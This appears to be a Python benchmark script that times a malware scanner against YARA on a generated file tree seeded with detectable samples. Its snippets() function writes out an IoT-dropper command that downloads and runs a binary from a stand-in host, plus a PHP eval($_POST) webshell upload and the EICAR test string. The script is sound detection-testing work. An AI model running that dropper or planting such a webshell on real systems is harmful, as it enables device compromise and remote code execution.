"""Benchmark: `sentinel scan DIR --json` against `yara -r RULES DIR` on the same generated tree and the same rules.

    python benchmarks/bench_yara.py [--dir bench-data/yara] [--files 2000] [--runs 3]

Generates (once, deterministically, seed 42) a tree of text files of 1-50 KB, a few of which carry webshell, EICAR
and IoT-dropper content, then times both scanners `--runs` times in round-robin order (the machine is noisy; the
median is reported) after one warm-up run each (page cache, Sentinel's compiled-rules cache). Both use the built-in
rule files in rules/yara. Peak RSS comes from wait4() of each scanner process. The match sets are compared: a
difference is printed (and exits 1), since a faster scanner that finds less is no result.
"""

from __future__ import annotations

import argparse
import json
import os
import random
import shutil
import statistics
import subprocess
import sys
import tempfile
import time
from pathlib import Path

REPO = Path(__file__).resolve().parents[1]
RULES = REPO / "rules" / "yara"
SAMPLES = REPO.parent / "shared" / "corpus" / "yara" / "samples"

WORDS = ("sensor gateway camera traffic light meter district heating valve pump station parking bus route "
         "status ok error timeout retry config value threshold alarm reading temperature humidity voltage "
         "the a of and to in is for on with by from at as").split()


def snippets() -> list[bytes]:
    """Content that the built-in rules detect. Taken from the corpus samples or assembled here at run time, so
    this file itself matches nothing."""
    out = []
    if SAMPLES.is_dir():
        out.append((SAMPLES / "caidao_chopper_404.php.txt").read_bytes())
        c99 = (SAMPLES / "c99shell.php.txt").read_bytes()
        out.append(c99[:45_000])  # the head of c99shell carries several of the thor-webshells strings
    out.append(b"cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://192.0.2.9/b." + b"mips; "
               b"chmod 777 b.mips; ./b.mips\n")
    out.append(b"Content-Disposition: form-data; name=\"f\"; filename=\"up" + b".php\"\r\n\r\n<?php ev"
               b"al($_POST['x']); ?>\r\n")
    return out


def eicar() -> bytes:
    if SAMPLES.is_dir():
        return (SAMPLES / "eicar_extracted_from_dev15_smb.txt").read_bytes()
    return b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def generate(root: Path, n_files: int, seed: int = 42) -> tuple[int, int]:
    """Write the tree under `root` (skipped when a complete one is there). Returns (files, bytes)."""
    marker = root / ".complete"
    if marker.exists():
        files = [p for p in root.rglob("*") if p.is_file() and p.name != ".complete"]
        return len(files), sum(p.stat().st_size for p in files)
    rnd = random.Random(seed)
    snips = snippets()
    total = 0
    for i in range(n_files):
        d = root / f"d{i % 40:02d}"
        d.mkdir(parents=True, exist_ok=True)
        path = d / f"f{i:05d}.txt"
        if i % 400 == 7:
            data = eicar()  # SUSP_Just_EICAR needs the string alone at offset 0
        else:
            size = rnd.randint(1024, 50 * 1024)
            lines, n = [], 0
            while n < size:
                line = " ".join(rnd.choices(WORDS, k=rnd.randint(4, 16))) + f" {rnd.random():.6f}\n"
                lines.append(line)
                n += len(line)
            data = "".join(lines).encode()[:size]
            if i % 40 == 3:  # 50 files carry a snippet somewhere in the middle
                s = snips[(i // 40) % len(snips)]
                cut = rnd.randint(0, len(data))
                data = data[:cut] + b"\n" + s + b"\n" + data[cut:]
        path.write_bytes(data)
        total += len(data)
    marker.write_text("ok\n")
    return n_files, total


def timed(cmd: list[str], env: dict[str, str]) -> tuple[float, int, bytes]:
    """(wall seconds, peak RSS in KiB of that process, stdout)."""
    with tempfile.TemporaryFile() as out:
        t0 = time.perf_counter()
        proc = subprocess.Popen(cmd, stdout=out, stderr=subprocess.PIPE, env=env)
        _, status, usage = os.wait4(proc.pid, 0)
        wall = time.perf_counter() - t0
        proc.returncode = os.waitstatus_to_exitcode(status)
        err = proc.stderr.read() if proc.stderr else b""
        if proc.returncode != 0:
            raise SystemExit(f"{cmd[0]} failed ({proc.returncode}): {err.decode(errors='replace')[:500]}")
        out.seek(0)
        return wall, usage.ru_maxrss, out.read()


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--dir", type=Path, default=REPO / "bench-data" / "yara")
    ap.add_argument("--files", type=int, default=2000)
    ap.add_argument("--runs", type=int, default=3)
    args = ap.parse_args()

    tree = args.dir / "tree"
    n_files, n_bytes = generate(tree, args.files)
    rule_files = sorted(str(p) for p in RULES.iterdir() if p.suffix in (".yar", ".yara"))
    work = Path(tempfile.mkdtemp(prefix="bench-yara-"))
    try:
        return _bench(tree, n_files, n_bytes, rule_files, work, args.runs)
    finally:
        shutil.rmtree(work, ignore_errors=True)


def _bench(tree: Path, n_files: int, n_bytes: int, rule_files: list[str], work: Path, runs: int) -> int:
    env = {**os.environ, "XDG_CACHE_HOME": str(work / "cache")}
    env.pop("SENTINEL_YARA_RULES", None)
    cmds = {
        "sentinel scan": [sys.executable, "-m", "sentinel.cli.main", "scan", str(tree), "--json",
                          "--db", f"sqlite:///{work / 'bench.db'}"],
        "yara -r": ["yara", "-w", "-r", *rule_files, str(tree)],
        # fixed cost of the command (interpreter, imports, rules from the cache, store): an empty directory
        "sentinel (empty)": [sys.executable, "-m", "sentinel.cli.main", "scan", str(work / "empty"), "--json",
                             "--db", f"sqlite:///{work / 'bench.db'}"],
    }
    (work / "empty").mkdir()
    times: dict[str, list[float]] = {k: [] for k in cmds}
    rss: dict[str, int] = {k: 0 for k in cmds}
    outputs: dict[str, bytes] = {}
    for name, cmd in cmds.items():  # warm-up: page cache, compiled-rules cache
        timed(cmd, env)
    for _ in range(runs):
        for name, cmd in cmds.items():
            wall, peak, out = timed(cmd, env)
            times[name].append(wall)
            rss[name] = max(rss[name], peak)
            outputs[name] = out

    summary = json.loads(outputs["sentinel scan"])
    ours = {(m["path"], m["rule"]) for m in summary["matches"]}
    theirs = set()
    for line in outputs["yara -r"].decode().splitlines():
        rule, _, path = line.partition(" ")
        theirs.add((path, rule))

    mb = n_bytes / 1e6
    print(f"tree: {n_files} files, {mb:.1f} MB ({tree}); rules: {summary['rules']['count']} from "
          f"{len(rule_files)} files; runs: {runs} (median, min-max)")
    print(f"{'scanner':<16}{'wall s':>22}{'files/s':>10}{'MB/s':>8}{'peak RSS':>11}{'matches':>9}")
    med = {}
    for name in cmds:
        m = med[name] = statistics.median(times[name])
        hits = {"sentinel scan": len(ours), "yara -r": len(theirs)}.get(name, 0)
        rate = (f"{'-':>10}{'-':>8}" if name == "sentinel (empty)" else f"{n_files / m:>10.0f}{mb / m:>8.1f}")
        print(f"{name:<16}{m:>8.3f} ({min(times[name]):.3f}-{max(times[name]):.3f}){rate}"
              f"{rss[name] / 1024:>8.1f} MB{hits:>9}")
    ratio = med["sentinel scan"] / med["yara -r"]
    print(f"sentinel scan / yara -r wall-time ratio: {ratio:.2f}x "
          f"(in-process scan time reported by sentinel: {summary['seconds']:.3f} s, "
          f"{n_files / summary['seconds']:.0f} files/s, {mb / summary['seconds']:.1f} MB/s)")
    net = med["sentinel scan"] - med["sentinel (empty)"]
    print(f"sentinel scan minus its fixed start-up cost: {net:.3f} s, {n_files / net:.0f} files/s, "
          f"{mb / net:.1f} MB/s, {net / med['yara -r']:.2f}x yara -r")
    print(f"matched files: {len({p for p, _ in ours})}; identical match sets: {ours == theirs}")
    if ours != theirs:
        print("only sentinel:", sorted(ours - theirs)[:10])
        print("only yara:", sorted(theirs - ours)[:10])
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
